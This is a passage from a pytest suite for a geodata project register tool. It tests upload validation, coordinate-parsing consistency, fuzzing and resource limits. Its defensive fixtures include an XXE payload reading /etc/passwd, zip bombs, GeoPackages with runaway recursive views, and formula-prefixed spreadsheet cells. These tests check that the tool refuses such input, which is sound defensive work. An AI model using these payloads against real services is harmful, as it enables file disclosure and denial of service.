    row = load(reg, geo).set_index("id").loc["dt-923"]
    for column, value in hostile.items():
        assert row[column] == value


# --- uploads ---------------------------------------------------------------------------------------

WGS = gpd.GeoDataFrame({"name": ["a"]}, geometry=[Point(105.7525, 10.0021)], crs="EPSG:4326")


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _shapefile_zip(tmp: Path, frame: gpd.GeoDataFrame, parts: tuple[str, ...]) -> bytes:
    frame.to_file(tmp / "l.shp", driver="ESRI Shapefile")
    return _zip({f"l.{ext}": (tmp / f"l.{ext}").read_bytes() for ext in parts})


UPLOADS: list[tuple[str, str, Callable[[Path], bytes], str]] = [
    (
        "zip-not-shapefile",
        "roads.zip",
        lambda tmp: _zip({"roads.xlsx": b"PK..", "README.txt": b"hi"}),
        "zip_not_shapefile",
    ),
    (
        "kml-no-features",
        "empty.kml",
        lambda tmp: (
            b'<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2">'
            b"<Document><Folder><name>Layer</name></Folder></Document></kml>"
        ),
        "no_features",
    ),
    ("upload-over-limit", "huge.geojson", lambda tmp: b"{" + b" " * MAX_UPLOAD_BYTES + b"}", "too_large"),
    ("upload-empty", "nothing.geojson", lambda tmp: b"", "empty_file"),
    ("image-named-geojson", "map.geojson", lambda tmp: b"\x89PNG\r\n\x1a\n\x00\x00", "unknown_format"),
    (
        "zip-bomb",
        "bomb.zip",
        lambda tmp: _zip({f"{i}.bin": b"\x00" * (30 << 20) for i in range(4)}),
        "zip_bomb",
    ),
    (
        "kml-xxe",
        "xxe.kml",
        lambda tmp: b'<!DOCTYPE kml [<!ENTITY e SYSTEM "file:///etc/passwd">]><kml>&e;</kml>',
        "unsafe_xml",
    ),
    (
        "shapefile-metres-no-prj",
        "vn2000.zip",
        lambda tmp: _shapefile_zip(tmp, WGS.to_crs("EPSG:5897"), ("shp", "shx", "dbf")),
        "no_crs",
    ),
    (
        "geojson-metres-no-crs",
        "metres.geojson",
        lambda tmp: json.dumps(
            {
                "type": "Feature",
                "properties": {},
                "geometry": {"type": "Point", "coordinates": [593605.2, 1104877.9]},
            }
        ).encode(),
        "wrong_crs",
    ),
    ("json-not-geojson", "table.json", lambda tmp: b'[{"id": 1}]', "not_geojson"),
    (
        "geojson-latin-1",
        "latin1.geojson",
        lambda tmp: '{"type": "Feature", "properties": {"name": "Ô Môn"}, "geometry": null}'.encode(
            "latin-1"
        ),
        "not_utf8",
    ),
    ("csv-upload", "projects.csv", lambda tmp: ",".join(schema.COLUMNS).encode(), "unknown_format"),
]


@pytest.mark.parametrize(("label", "filename", "make", "rule"), UPLOADS, ids=[u[0] for u in UPLOADS])
def test_upload(label: str, filename: str, make: Callable[[Path], bytes], rule: str, tmp_path: Path) -> None:
    data = make(tmp_path)
    try:
        read_upload(filename, data)
    except UploadError as exc:
        (problem,) = exc.problems
        assert problem.rule == rule
        assert problem.file == filename
        assert str(exc).startswith(f"{filename}: ")
        assert "\n" not in str(exc)
    else:
        pytest.fail(f"{label} was accepted")


def test_random_damage_never_crashes(make_register: MakeRegister, monkeypatch: pytest.MonkeyPatch) -> None:
    """Seeded random byte damage to the register or geodata: always problems, never an exception, and
    the same problems and geometries whether the coordinates are lexed or read as JSON."""
    import random

    reg, geo = make_register()
    originals = {reg: reg.read_bytes(), geo / "projects.geojson": (geo / "projects.geojson").read_bytes()}
    alphabet = b',;"\n\r\t {}[]:0123456789.-eE\x00\xff\xc3abnulltrue=+@'
    rng = random.Random(2026)
    for _ in range(300):
        target = rng.choice(list(originals))
        data = bytearray(originals[target])
        for _ in range(rng.randint(1, 6)):
            pos = rng.randrange(len(data))
            op = rng.random()
            if op < 0.4:
                data[pos] = rng.choice(alphabet)
            elif op < 0.7:
                del data[pos : pos + rng.randint(1, 20)]
            else:
                data[pos:pos] = bytes(rng.choice(alphabet) for _ in range(rng.randint(1, 5)))
        for path, original in originals.items():
            path.write_bytes(bytes(data) if path == target else original)
        problems = validate(reg, geo)
        assert all(p.rule != "internal_error" and "\n" not in str(p) for p in problems), problems
        if target.name == "projects.geojson":
            assert_same_geodata(target)
        if problems:
            with pytest.raises(RegisterError):
                load(reg, geo)


# --- the coordinate arrays read in bulk give exactly what reading them as JSON gives -------------------
#
# ``read_geodata`` lexes each well-formed coordinate array out of the text and reads its numbers in one
# pass; every other array is read as JSON. Both feed the one set of geometry checks (``readers._resolve``).
# These tests read each file both ways, on the corpus and on seeded random damage, and require the same
# problems (file, where, field, rule, message, order) and the same geometries, coordinate for coordinate.


def read_as_json(path: Path) -> tuple[Any, list[Any]]:
    """``read_geodata``'s result with every coordinate array read as JSON (nothing lexed)."""
    from portfolio._files import read_text

    doc, bad = readers_module._parse_document(str(path), read_text(path, kind="geodata"))
    if bad is not None:
        return None, [bad]
    return readers_module._geodata_from_doc(path, doc, None)


def assert_same_geodata(path: Path) -> None:
    lexed, lexed_problems = register_module.read_geodata(path)
    try:
        plain, plain_problems = read_as_json(path)
    except InputError as exc:
        plain, plain_problems = None, exc.problems
    assert lexed_problems == plain_problems
    assert (lexed is None) == (plain is None)
    if lexed is None or plain is None:
        return
    assert lexed.order == plain.order
    assert list(lexed.geometries) == list(plain.geometries)
    for ident, want in plain.geometries.items():
        got = lexed.geometries[ident]
        assert (got is None) == (want is None), ident
        if got is not None and want is not None:
            assert got.geom_type == want.geom_type, ident
            assert shapely.equals_identical(got, want), (ident, got.wkt[:120], want.wkt[:120])


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_lexed_and_json_coordinates_agree_on_the_corpus(case: Bad, make_register: MakeRegister) -> None:
    reg, geo = build(case, make_register)
    assert_same_geodata(geo / "projects.geojson")


def test_coordinates_are_lexed(make_register: MakeRegister, monkeypatch: pytest.MonkeyPatch) -> None:
    """On a valid register no coordinate array is read as JSON lists; a broken one is read again as JSON
    only to quote its numbers as written."""
    calls: list[str] = []
    real_as_arrays = readers_module._as_arrays

    def as_arrays(*args: Any) -> Any:
        calls.append("geometry")
        return real_as_arrays(*args)

    monkeypatch.setattr(readers_module, "_as_arrays", as_arrays)
    reg, geo = make_register()
    register_module.load_boundary(geo)  # the city boundary (cached) is read as JSON: a few features
    calls.clear()
    assert validate(reg, geo) == []
    assert calls == []
    rows = fixture_rows()
    rows[1]["status"] = "open"
    reg, geo = make_register(
        rows=rows,
        geometries={
            **fixture_geometries(),
            "cang-cai-cui": {"type": "Point", "coordinates": [9.9947, 105.8436]},
        },
        name="broken",
    )
    register_module.load_boundary(geo)
    calls.clear()
    assert [p.rule for p in validate(reg, geo)] == ["unknown_value", "swapped_coordinates"]
    assert calls == ["geometry"]  # the broken feature (a Point), read again to quote its numbers


POLYGON_WITH_HOLE = [
    [[105.60, 10.10], [105.64, 10.10], [105.64, 10.14], [105.60, 10.14], [105.60, 10.10]],
    [[105.61, 10.11], [105.61, 10.12], [105.62, 10.12], [105.62, 10.11], [105.61, 10.11]],
]
MIXED_GEOMETRIES: dict[str, Any] = {
    "line": {"type": "LineString", "coordinates": LINE},
    "multiline": {"type": "MultiLineString", "coordinates": [LINE, [[105.5, 10.0], [105.51, 10.02]]]},
    "polygon": {"type": "Polygon", "coordinates": POLYGON_WITH_HOLE},
    "multipolygon": {
        "type": "MultiPolygon",
        "coordinates": [
            POLYGON_WITH_HOLE,
            [[[105.70, 10.0], [105.71, 10.0], [105.71, 10.01], [105.70, 10.0]]],
        ],
    },
    "point": {"type": "Point", "coordinates": [105.8436, 9.9947]},
    "multipoint": {"type": "MultiPoint", "coordinates": [[105.8436, 9.9947], [105.81, 10.0]]},
}


def mixed_document(**extra: Any) -> dict[str, Any]:
    features = [
        {"type": "Feature", "properties": {"id": k}, "geometry": g} for k, g in MIXED_GEOMETRIES.items()
    ]
    return {"type": "FeatureCollection", "features": features, **extra}


MIXED = json.dumps(mixed_document())


def edit(old: str, new: str, text: str = MIXED, count: int = 1) -> str:
    """``text`` with ``old`` replaced (which must be there) by ``new``, ``count`` times."""
    assert old in text, old
    return text.replace(old, new, count)


EDGE_DOCUMENTS: list[tuple[str, str]] = [
    ("mixed", MIXED),
    ("mixed-indented", json.dumps(mixed_document(), indent=2)),
    (
        "exponents-and-integers",
        edit("10.0]", "10]", edit("105.5,", "105.5E0,", edit("105.8436", "1.058436e2")), count=9),
    ),
    ("negative-zero", edit("[105.8436, 9.9947]", "[-0, 9.9947]")),
    ("overflow", edit("105.8436", "1e400")),
    ("nan", edit("105.8436", "NaN")),
    ("leading-zero", edit("105.8436", "0105.8436")),
    ("plus-sign", edit("105.8436", "+105.8436")),
    ("z-coordinates", edit("[105.8436, 9.9947]", "[105.8436, 9.9947, 3]", count=9)),
    ("four-numbers", edit("[105.8436, 9.9947]", "[105.8436, 9.9947, 3, 4]")),
    ("one-number", edit("[105.8436, 9.9947]", "[105.8436]")),
    ("empty-position", edit("[105.81, 10.0]", "[]")),
    ("unclosed-hole", edit("[105.61, 10.11]]]", "[105.615, 10.11]]]")),
    (
        "short-ring",
        edit(
            "[[105.7, 10.0], [105.71, 10.0], [105.71, 10.01], [105.7, 10.0]]",
            "[[105.7, 10.0], [105.71, 10.01], [105.7, 10.0]]",
        ),
    ),
    ("one-point-line", edit("[[105.5, 10.0], [105.51, 10.02]]", "[[105.5, 10.0]]")),
    ("depth-mismatch", edit('"type": "MultiLineString"', '"type": "LineString"')),
    ("wrong-type-name", edit('"type": "MultiPoint"', '"type": "multipoint"')),
    ("geometry-collection", edit('"type": "MultiPoint"', '"type": "GeometryCollection"')),
    (
        "duplicate-coordinates-key",
        edit(
            '"coordinates": [105.8436, 9.9947]',
            '"coordinates": [105.8436, 9.9947], "coordinates": [105.7, 9.9]',
        ),
    ),
    ("escaped-key", edit('"coordinates": [105.8436, 9.9947]', '"coordin\\u0061tes": [105.8436, 9.9947]')),
    ("escaped-key-with-text", edit('"coordinates": [105.8436, 9.9947]', '"coordin\\u0061tes": "0"')),
    (
        "coordinates-in-properties",
        edit('"properties": {"id": "line"}', '"properties": {"id": "line", "coordinates": [[1, 2]]}'),
    ),
    ("coordinates-in-crs", json.dumps(mixed_document(crs={"type": "name", "coordinates": [1, 2]}))),
    (
        "coordinates-in-a-string",
        edit(
            '"properties": {"id": "line"}',
            '"properties": {"id": "line", "note": "\\"coordinates\\": [1, 2]"}',
        ),
    ),
    (
        "quote-ended-key",
        edit('"properties": {"id": "line"}', '"properties": {"id": "line", "a \\"coordinates": [1, 2]}'),
    ),
    ("self-intersection", edit("[105.64, 10.1], [105.64, 10.14]", "[105.64, 10.14], [105.64, 10.1]")),
    ("outside-region", edit("105.51, 10.02", "105.51, 21.02")),
    ("swapped", edit("[105.81, 10.0]", "[10.0, 105.81]")),
    ("projected", edit("[105.81, 10.0]", "[587412.3, 1101234.5]")),
    ("integer-400-digits", edit("105.81", "1" + "0" * 400)),
    ("integer-5000-digits", edit("105.81", "-1" + "0" * 5000)),
    ("integer-5000-digits-in-properties", edit('{"id": "line"}', '{"id": "line", "n": 1' + "0" * 5000 + "}")),
    ("trailing-comma", edit("[105.81, 10.0]", "[105.81, 10.0,]")),
    ("deep", edit("[105.81, 10.0]", "[" * 5000 + "]" * 5000)),
    ("string-number", edit("[105.81, 10.0]", '["105.81", 10.0]')),
    ("booleans", edit("[105.81, 10.0]", "[true, false]")),
    ("spaces-inside-number", edit("[105.81, 10.0]", "[105.8 1, 10.0]")),
    ("duplicate-id", edit('{"id": "multipoint"}', '{"id": "point"}')),
    ("coordinates-in-a-non-text-id", edit('{"id": "multipoint"}', '{"id": {"coordinates": [1, 2]}}')),
    ("coordinates-in-the-type", edit('"type": "MultiPoint"', '"type": {"coordinates": [1, 2]}')),
    ("coordinates-in-a-position", edit("[105.81, 10.0]", '{"coordinates": [1, 2]}')),
    (
        "coordinates-in-a-geometry-collection",
        edit(
            '"type": "MultiPoint", "coordinates": [[105.8436, 9.9947], [105.81, 10.0]]',
            '"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [105.81, 10.0]}]',
        ),
    ),
]


@pytest.mark.parametrize(("label", "text"), EDGE_DOCUMENTS, ids=[e[0] for e in EDGE_DOCUMENTS])
def test_lexed_geodata_reader_agrees_on_edge_cases(label: str, text: str, tmp_path: Path) -> None:
    path = tmp_path / "projects.geojson"
    path.write_text(text, encoding="utf-8")
    assert_same_geodata(path)


def test_lexed_geodata_reader_agrees_on_random_damage(tmp_path: Path) -> None:
    """Seeded random edits of coordinate text (numbers, brackets, signs, spaces): same result both ways."""
    import random

    path = tmp_path / "projects.geojson"
    original = MIXED
    spans = [(m.start(), m.end()) for m in re.finditer(r'"coordinates": ', original)]
    alphabet = "0123456789.,-+eE[] \n"
    numbers = ["-0", "0", "1e400", "105", "10", "105.7", "9.99", "1.0e1", "NaN", "00", "10.", ".5", "21.0"]
    rng = random.Random(6)
    for _ in range(400):
        text = original
        for _ in range(rng.randint(1, 3)):
            start = rng.choice(spans)[1]
            pos = rng.randrange(start, min(len(text), start + 120))
            op = rng.random()
            if op < 0.35:
                text = text[:pos] + rng.choice(alphabet) + text[pos + 1 :]
            elif op < 0.55:
                text = text[:pos] + text[pos + rng.randint(1, 8) :]
            elif op < 0.75:
                text = text[:pos] + rng.choice(alphabet) + text[pos:]
            else:
                match = re.compile(r"-?[0-9][0-9.eE+-]*").search(text, pos)
                if match:
                    text = text[: match.start()] + rng.choice(numbers) + text[match.end() :]
        path.write_text(text, encoding="utf-8")
        assert_same_geodata(path)


CELL_DAMAGE: list[Callable[[str], str]] = [
    lambda v: "",
    lambda v: " " + v,
    lambda v: v + "\u00a0",
    lambda v: "=" + v,
    lambda v: "-" + v,
    lambda v: "@" + v,
    lambda v: "\t" + v,
    lambda v: v + "\n",
    lambda v: v + "\x07",
    lambda v: unicodedata.normalize("NFD", v + " Đường tỉnh"),
    lambda v: "\u0301" + v,
    lambda v: v.upper(),
    lambda v: v + ".0",
    lambda v: "2200",
    lambda v: "1989",
    lambda v: "2021",
    lambda v: "2061",
    lambda v: "01",
    lambda v: "7",
    lambda v: "-5",
    lambda v: "nan",
    lambda v: "1_000",
    lambda v: "12,5",
    lambda v: "2021-02-30",
    lambda v: "2099-01-01",
    lambda v: "２０２１",
    lambda v: "ongoing",
    lambda v: "kcn-o-mon",
    lambda v: "QL 91",
    lambda v: v[: len(v) // 2],
    lambda v: v + "|" + v,
    lambda v: "1_9.3",
    lambda v: "\u0661\u0662",
    lambda v: "1e3",
    lambda v: "12.",
    lambda v: "+12",
    lambda v: "02",
    lambda v: "9" * 400,
    lambda v: v + "\t" + v,
    lambda v: v + "\x85",
    lambda v: v + "\x9b",
    lambda v: v + "\u2028",
    lambda v: v + "x" * 32_767,
    lambda v: "202/KH-UBND=\u0662\u0660\u0662\u0661-2025",
]


def test_row_checks_by_column_agree_with_each_row_alone_on_random_damage() -> None:
    """Seeded random cell damage to many rows: ``check_rows`` (the cell rules column by column over all
    rows) gives what ``check_row`` on each row alone gives."""
    import random

    rng = random.Random(2026)
    template = [base_row(id=f"p-{i}", name_en=f"Project {i}") for i in range(4)] + [
        {**row, "id": f"{row['id']}-{i}"} for i in range(4) for row in fixture_rows()[1:]
    ]
    for _ in range(300):
        rows = [dict(row) for row in template]
        for _ in range(rng.randint(0, 4)):
            row = rng.choice(rows)
            column = rng.choice(schema.COLUMNS)
            row[column] = rng.choice(CELL_DAMAGE)(row[column])
        numbers = list(range(1, len(rows) + 1))
        together = rows_module.check_rows("projects.csv", numbers, rows)
        alone = [rows_module.check_row("projects.csv", n, r) for n, r in zip(numbers, rows, strict=True)]
        assert together == [(model is not None, problems) for model, problems in alone]


def _model_accepts(raw: dict[str, str]) -> bool:
    from pydantic import ValidationError

    try:
        rows_module.ProjectRow.model_validate(rows_module._model_input(raw))
    except ValidationError:
        return False
    return True


def test_the_column_screen_clears_exactly_the_rows_the_model_accepts() -> None:
    """``_model_clears`` (each distinct value of a column checked once by the field's own check) lets a
    row skip the row model only when the model accepts it: on seeded random damage, its verdict is the
    model's for every row (one cell damaged per row, several per row, and blank cells)."""
    import random

    rng = random.Random(9)
    template = [base_row(id=f"p-{i}", name_en=f"Project {i}") for i in range(4)] + [
        {**row, "id": f"{row['id']}-{i}"} for i in range(4) for row in fixture_rows()[1:]
    ]
    damage: list[Callable[[str], str]] = [
        *CELL_DAMAGE,
        lambda v: "",
        lambda v: " ",
        lambda v: "1999",
        lambda v: "2031",
        lambda v: "approved",
    ]
    screened = 0
    for _ in range(300):
        rows = [dict(row) for row in template]
        for _ in range(rng.randint(0, 6)):
            row = rng.choice(rows)
            column = rng.choice(schema.COLUMNS)
            row[column] = rng.choice(damage)(row[column])
        verdicts = rows_module._model_clears(rows)
        assert verdicts == [_model_accepts(raw) for raw in rows]
        screened += sum(verdicts)
    assert screened > 0  # clean rows are cleared, not all sent to the model


def test_the_formula_scan_of_a_column_finds_every_cell_the_formula_pre_check_finds() -> None:
    """The row checks scan a column with two fast patterns (``_FORMULA_LINE_RE``, ``_FORMULA_SPLIT_RE``)
    instead of ``_formula.SUSPECT_RE``: on random cells they find every cell it finds."""
    import random

    from portfolio import _formula

    rng = random.Random(11)
    alphabet = [
        "a",
        "1",
        " ",
        "\u00a0",
        "\u3000",
        "\n",
        "\t",
        "\r",
        ";",
        ",",
        "\u200b",
        "\ufeff",
        *_formula.STARTS,
    ]
    for _ in range(400):
        texts = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6))) for _ in range(12)]
        by_line = "\n".join(texts)
        starts = rows_module._Starts(texts)
        old = set(rows_module._candidates(_formula.SUSPECT_RE, by_line, starts))
        new = set(rows_module._candidates(rows_module._FORMULA_LINE_RE, "\n" + by_line, starts))
        new |= set(rows_module._candidates(rows_module._FORMULA_SPLIT_RE, by_line, starts))
        assert old <= new, texts
        assert {k for k, t in enumerate(texts) if _formula.is_formula(t)} <= new, texts


def test_the_column_screen_follows_the_model_validators() -> None:
    """Every field the row model checks has its check in ``_VALUE_CHECKS`` (or is checked across the row):
    a validator added to the model without its column check fails here."""
    validators = rows_module.ProjectRow.__pydantic_decorators__.field_validators.values()
    checked = {field for decorator in validators for field in decorator.info.fields}
    assert checked == rows_module._VALUE_CHECKS.keys() | set(rows_module._INVESTMENT_FIELDS)
    model = rows_module.ProjectRow.__pydantic_decorators__.model_validators
    assert list(model) == ["_period_order"]  # checked across the row by _model_clears


def test_bulk_number_parsing_is_exactly_float() -> None:
    """``parse_numbers`` (pandas' C parser) gives every number bit for bit as ``json`` does."""
    import random

    import numpy as np

    rng = random.Random(7)
    tokens = (
        [repr(rng.uniform(-200, 200)) for _ in range(20000)]
        + [f"{rng.uniform(104, 107):.{rng.randint(0, 20)}f}" for _ in range(20000)]
        + [f"{rng.random():.25e}" for _ in range(5000)]
        + [str(rng.randrange(-(10**30), 10**30)) for _ in range(500)]
        + [
            "105.7777777777777777777777777777",
            "1.700000000000000177635684",
            "9007199254740993",
            "0.1",
            "1e-320",
            "4.9e-324",
            "2.4703282292062327e-324",
            "2.2250738585072011e-308",
            "1e400",
            "-1e400",
            "-0",
            "0",
            "-0.0",
            "1E5",
            "1e+5",
            "1e-5",
            "10",
            "105",
        ]
    )
    got = register_module.parse_numbers(",".join(tokens).encode())
    want = np.array([float(json.loads(token)) for token in tokens])
    assert got.shape == want.shape
    # -0 is an int for json (0.0 as a float) but -0.0 for float(); the fast path only keeps numbers inside
    # the region box, so that difference can never reach a geometry.
    same = got.view(np.int64) == want.view(np.int64)
    assert [t for t, ok in zip(tokens, same, strict=True) if not ok] == ["-0"]
    assert register_module.parse_numbers(b"").shape == (0,)


# --- paths that cannot be looked at (defect 2): one problem naming the path, never a traceback -----

Locate = Callable[[Path, Path, Path, pytest.MonkeyPatch], tuple[Path, Path, Path]]


def _geodata_is_a_file(reg: Path, geo: Path, tmp: Path, mp: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
    return reg, reg, reg  # --geodata projects.csv


def _geodata_under_a_file(reg: Path, geo: Path, tmp: Path, mp: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
    return reg, reg / "geodata", reg / "geodata"


def _register_name_too_long(
    reg: Path, geo: Path, tmp: Path, mp: pytest.MonkeyPatch
) -> tuple[Path, Path, Path]:
    long = tmp / ("a" * 5000 + ".csv")
    return long, geo, long


def _deny(mp: pytest.MonkeyPatch, top: Path, *, itself: bool) -> None:
    """Make every path below ``top`` (and ``top`` too when ``itself``) fail with EACCES, as under a
    folder of mode 700 owned by another user (the tests may run as root, which chmod cannot stop)."""
    real_stat, real_open = Path.stat, Path.open

    def denied(path: Path) -> bool:
        return str(path).startswith(str(top) + "/") or (itself and str(path) == str(top))

    def stat(self: Path, *args: Any, **kwargs: Any) -> Any:
        if denied(self):
            raise PermissionError(13, "Permission denied", str(self))
        return real_stat(self, *args, **kwargs)

    def open_(self: Path, *args: Any, **kwargs: Any) -> Any:
        if denied(self):
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    mp.setattr(Path, "stat", stat)
    mp.setattr(Path, "open", open_)


def _geodata_in_private_folder(
    reg: Path, geo: Path, tmp: Path, mp: pytest.MonkeyPatch
) -> tuple[Path, Path, Path]:
    _deny(mp, geo, itself=True)  # its parent folder may not be entered
    return reg, geo, geo


def _geodata_files_private(
    reg: Path, geo: Path, tmp: Path, mp: pytest.MonkeyPatch
) -> tuple[Path, Path, Path]:
    _deny(mp, geo, itself=False)  # the folder can be looked at, the files in it cannot
    return reg, geo, geo / "projects.geojson"


#: (label, how the paths are broken, a fragment of the message)
UNLOOKABLE: list[tuple[str, Locate, str]] = [
    ("geodata-is-a-file", _geodata_is_a_file, "geodata path is not a folder: give the folder holding"),
    ("geodata-under-a-file", _geodata_under_a_file, "geodata folder cannot be looked at: Not a directory"),
    ("register-name-too-long", _register_name_too_long, "register file cannot be read: File name too long"),
    (
        "geodata-in-private-folder",
        _geodata_in_private_folder,
        "geodata folder cannot be looked at: Permission denied",
    ),
    ("geodata-files-private", _geodata_files_private, "geodata file cannot be read: Permission denied"),
]


@pytest.mark.parametrize(("label", "locate", "message"), UNLOOKABLE, ids=[u[0] for u in UNLOOKABLE])
def test_paths_that_cannot_be_looked_at(
    label: str,
    locate: Locate,
    message: str,
    make_register: MakeRegister,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    reg, geo = make_register()
    reg, geo, named = locate(reg, geo, tmp_path, monkeypatch)
    problems = validate(reg, geo)
    assert problems and all(p.rule == "unreadable" for p in problems), [str(p) for p in problems]
    assert problems[0].file == str(named)
    assert message in problems[0].message
    with pytest.raises(RegisterError) as info:
        load(reg, geo)
    assert {p.rule for p in info.value.problems} == {"unreadable"}
    assert str(named) in {p.file for p in info.value.problems}
    for command in ("list", "stats", "validate"):
        try:
            code = main([command, "--register", str(reg), "--geodata", str(geo)])
        except SystemExit as exit_:  # list and stats leave through SystemExit(1)
            code = exit_.code  # type: ignore[assignment]  # SystemExit's code is an int here
        assert code == 1, command
        err = capsys.readouterr().err
        assert f"{named}: " in err and "[unreadable]" in err and "Traceback" not in err


def test_layers_of_a_geodata_file_are_a_register_error(make_register: MakeRegister) -> None:
    reg, _ = make_register()
    for load_one in (register_module.load_boundary, register_module.load_background):
        with pytest.raises(RegisterError) as info:
            load_one(reg)
        (problem,) = info.value.problems
        assert (problem.file, problem.rule) == (str(reg), "unreadable")


def test_unlookable_paths_in_a_real_process(make_register: MakeRegister, tmp_path: Path) -> None:
    """``python -m portfolio list``: exit 1 and the problem line, no traceback."""
    reg, _ = make_register()
    for args in (["--geodata", str(reg)], ["--register", str(tmp_path / ("a" * 5000 + ".csv"))]):
        result = subprocess.run(
            [sys.executable, "-m", "portfolio", "list", *args],
            capture_output=True,
            text=True,
            cwd=ROOT,
            timeout=300,
        )
        assert result.returncode == 1, result.stderr
        assert "Traceback" not in result.stderr and result.stderr.splitlines()[0].endswith("[unreadable]")


# --- hostile uploads (issue 11): refused fast, in a worker; the server's memory stays small --------

HOSTILE_UPLOADS: list[tuple[str, Callable[[Path], Path], str]] = [
    (
        "gpkg-view-recursive-cte",
        lambda d: hostile.gpkg_with_view(d / "forever.gpkg", hostile.FOREVER_VIEW),
        "unsafe_geopackage",
    ),
    (
        "gpkg-view-gigabytes",
        lambda d: hostile.gpkg_with_view(d / "gigabytes.gpkg", hostile.GIGABYTES_VIEW),
        "unsafe_geopackage",
    ),
    (
        "gpkg-own-trigger",
        lambda d: hostile.gpkg_with_sql(
            d / "trigger.gpkg", "CREATE TRIGGER t AFTER INSERT ON base BEGIN SELECT 1; END"
        ),
        "unsafe_geopackage",
    ),
    (
        "gpkg-virtual-table",
        lambda d: hostile.gpkg_with_sql(d / "virtual.gpkg", "CREATE VIRTUAL TABLE words USING fts5(w)"),
        "unsafe_geopackage",
    ),
    (
        "gpkg-layer-not-a-table",
        lambda d: hostile.gpkg_with_sql(
            d / "ghost.gpkg",
            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
            "VALUES ('ghost', 'features', 'ghost', 4326)",
        ),
        "unsafe_geopackage",
    ),
    (
        "geojson-million-points",
        lambda d: hostile.million_points_geojson(d / "points.geojson"),
        "too_many_vertices",
    ),
    ("kml-600000-vertices", lambda d: hostile.many_points_kml(d / "line.kml"), "too_many_vertices"),
    ("zip-bomb-600-mb", lambda d: hostile.zip_bomb(d / "bomb.zip"), "zip_bomb"),
]


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    return {label: make(folder) for label, make, _ in HOSTILE_UPLOADS}


def test_hostile_uploads_are_refused_fast_and_the_server_stays_small(hostile_files: dict[str, Path]) -> None:
    """Each file read as the app reads it (``read_upload_for_view``) in a fresh server process: the
    rule expected, within 30 s each, and the server's peak memory grows by less than 250 MB (the
    million-point GeoJSON alone took 1.07 GB, a GeoPackage view 3.8 GB, before issue 11)."""
    paths = [hostile_files[label] for label, _, _ in HOSTILE_UPLOADS]
    results, before, after = hostile.probe("portfolio.upload:read_upload_for_view", paths)
    for (label, _, rule), result in zip(HOSTILE_UPLOADS, results, strict=True):
        assert result.rule == rule, (label, result)
        assert result.seconds < 30, (label, result.seconds)
    assert after - before < 250 * 2**20, (before, after)
    print(
        f"\nhostile uploads: {[(r.name, r.rule, round(r.seconds, 2)) for r in results]}; "
        f"server peak RSS {before / 2**20:.0f} MiB after imports, {after / 2**20:.0f} MiB after all"
    )


@pytest.mark.parametrize(("label", "make", "rule"), HOSTILE_UPLOADS, ids=[u[0] for u in HOSTILE_UPLOADS])
def test_hostile_upload_message(
    label: str, make: Callable[[Path], Path], rule: str, hostile_files: dict[str, Path]
) -> None:
    """The one-line message names the file and says what is wrong, in both languages."""
    from portfolio import i18n

    path = hostile_files[label]
    with pytest.raises(UploadError) as info:
        read_upload(path.name, path.read_bytes())
    (problem,) = info.value.problems
    assert (problem.rule, problem.file) == (rule, path.name)
    assert "\n" not in str(info.value) and "/tmp" not in str(info.value)
    vi, detail = i18n.upload_problem(problem.rule, problem.file, problem.message, "vi")
    assert vi.startswith(f"{path.name}: ") and vi != f"{path.name}: {problem.message}" and detail


@pytest.mark.parametrize(
    ("select", "limits", "limit"),
    [
        (hostile.FOREVER_VIEW, bounded.Limits(wall_seconds=60, cpu_seconds=3), "cpu"),
        (hostile.FOREVER_VIEW, bounded.Limits(wall_seconds=3, cpu_seconds=60), "time"),
        (
            hostile.GIGABYTES_VIEW,
            bounded.Limits(wall_seconds=120, cpu_seconds=60),
            "memory",
        ),  # 1 GiB, as used
    ],
    ids=["cpu", "time", "memory"],
)
def test_the_worker_limits_stop_gdal_running_a_hostile_view(
    select: str, limits: bounded.Limits, limit: str, tmp_path: Path
) -> None:
    """The backstop behind the schema check: GDAL itself, given the view, in a worker, is stopped by
    the CPU, wall-time or memory limit, and the caller hears which."""
    import pyogrio

    path = hostile.gpkg_with_view(tmp_path / "evil.gpkg", select)
    start = time.monotonic()
    with pytest.raises(bounded.LimitExceeded) as info:
        bounded.run(pyogrio.read_dataframe, path, "evil", limits=limits)
    assert info.value.limit == limit
    assert time.monotonic() - start < 60  # loose: the machine may be busy
    assert {"cpu": "CPU-seconds", "time": "seconds", "memory": "MiB of memory"}[limit] in str(info.value)


def test_a_limit_hit_is_an_upload_error_in_both_languages(tmp_path: Path) -> None:
    """Every limit rule has its Vietnamese message, and a real limit hit reaches the user as one."""
    from portfolio import i18n, upload

    for rule in (*upload.LIMIT_RULES.values(), "unsafe_geopackage", "bad_geopackage", "too_many_vertices"):
        assert rule in i18n.UPLOAD_RULES, rule
    data = hostile.million_points_geojson(tmp_path / "p.geojson").read_bytes()
    tight = bounded.Limits(wall_seconds=0.05, cpu_seconds=60)  # no reader finishes in 50 ms
    with pytest.raises(UploadError) as info:
        read_upload("p.geojson", data, limits=tight)
    (problem,) = info.value.problems
    assert problem.rule == "time_limit" and "0.05 seconds" in problem.message
    message, _ = i18n.upload_problem(problem.rule, problem.file, problem.message, "vi")
    assert message == "p.geojson: đọc tệp quá giới hạn thời gian (60 giây) nên đã bị dừng"


def test_the_view_keeps_only_the_geometry(tmp_path: Path) -> None:
    """The session holds the simplified geometry, not the attributes (a 20 MB table of them)."""
    from portfolio import upload

    ring = [(105.6 + 0.01 * math.cos(a / 100), 10.1 + 0.01 * math.sin(a / 100)) for a in range(629)]
    frame = gpd.GeoDataFrame(
        {"name": ["x" * 5000], "note": ["y"]}, geometry=[shapely.Polygon(ring)], crs="EPSG:4326"
    )
